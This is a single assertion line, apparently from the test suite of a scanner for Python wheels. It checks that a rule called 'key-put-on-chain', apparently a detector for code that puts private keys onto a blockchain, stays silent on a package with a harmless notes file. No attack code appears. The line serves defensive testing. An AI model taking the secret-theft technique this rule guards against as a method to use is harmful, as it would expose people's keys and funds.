    assert "key-put-on-chain" not in fired(WHEEL, wheel({"pkg/__init__.py": b"", "pkg/notes.py": source.encode()}))
